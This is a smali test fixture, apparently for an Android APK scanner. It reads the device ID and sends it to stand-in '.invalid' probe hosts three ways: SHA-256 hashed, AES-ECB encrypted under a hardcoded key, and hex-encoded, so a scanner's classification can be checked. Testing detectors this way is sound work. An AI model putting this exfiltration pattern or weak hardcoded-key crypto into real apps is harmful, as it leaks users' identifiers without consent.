.class public Lorg/apkscan/test/sc/Main;
.super Landroid/app/Activity;

# The device id sent three ways: hashed by a digest fed with update(),
# encrypted by a cipher fed with update() (both crypto: sent, not weakly
# encoded), and hex-encoded by a hand-written loop (weakly encoded).

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lorg/apkscan/test/sc/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lorg/apkscan/test/sc/Main;->digest(Ljava/lang/String;)V
    invoke-static {v0}, Lorg/apkscan/test/sc/Main;->cipher(Ljava/lang/String;)V
    invoke-static {v0}, Lorg/apkscan/test/sc/Main;->hex(Ljava/lang/String;)V
    return-void
.end method

.method static digest(Ljava/lang/String;)V
    .registers 11
    move-object v0, p0
    const-string v1, "SHA-256"
    invoke-static {v1}, Ljava/security/MessageDigest;->getInstance(Ljava/lang/String;)Ljava/security/MessageDigest;
    move-result-object v2
    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
    move-result-object v3
    invoke-virtual {v2, v3}, Ljava/security/MessageDigest;->update([B)V
    invoke-virtual {v2}, Ljava/security/MessageDigest;->digest()[B
    move-result-object v3
    const/4 v4, 0x2
    invoke-static {v3, v4}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
    move-result-object v5
    const-string v1, "https://sha.probe.invalid/c?h="
    invoke-virtual {v1, v5}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    new-instance v9, Ljava/net/URL;
    invoke-direct {v9, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v9}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v9
    invoke-virtual {v9}, Ljava/net/URLConnection;->connect()V
    return-void
.end method

.method static cipher(Ljava/lang/String;)V
    .registers 11
    move-object v0, p0
    const-string v1, "0123456789abcdef"
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    new-instance v2, Ljavax/crypto/spec/SecretKeySpec;
    const-string v3, "AES"
    invoke-direct {v2, v1, v3}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BLjava/lang/String;)V
    const-string v3, "AES/ECB/PKCS5Padding"
    invoke-static {v3}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v3
    const/4 v4, 0x1
    invoke-virtual {v3, v4, v2}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
    move-result-object v4
    invoke-virtual {v3, v4}, Ljavax/crypto/Cipher;->update([B)[B
    invoke-virtual {v3}, Ljavax/crypto/Cipher;->doFinal()[B
    move-result-object v4
    const/4 v5, 0x2
    invoke-static {v4, v5}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
    move-result-object v5
    const-string v1, "https://aesup.probe.invalid/c?e="
    invoke-virtual {v1, v5}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    new-instance v9, Ljava/net/URL;
    invoke-direct {v9, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v9}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v9
    invoke-virtual {v9}, Ljava/net/URLConnection;->connect()V
    return-void
.end method

.method static hex(Ljava/lang/String;)V
    .registers 11
    move-object v0, p0
    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    new-instance v2, Ljava/lang/StringBuilder;
    invoke-direct {v2}, Ljava/lang/StringBuilder;-><init>()V
    array-length v3, v1
    const/4 v4, 0x0
    :loop
    if-ge v4, v3, :done
    aget-byte v5, v1, v4
    and-int/lit16 v5, v5, 0xff
    invoke-static {v5}, Ljava/lang/Integer;->toHexString(I)Ljava/lang/String;
    move-result-object v5
    invoke-virtual {v2, v5}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    add-int/lit8 v4, v4, 0x1
    goto :loop
    :done
    invoke-virtual {v2}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v5
    const-string v1, "https://hex.probe.invalid/c?h="
    invoke-virtual {v1, v5}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    new-instance v9, Ljava/net/URL;
    invoke-direct {v9, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v9}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v9
    invoke-virtual {v9}, Ljava/net/URLConnection;->connect()V
    return-void
.end method
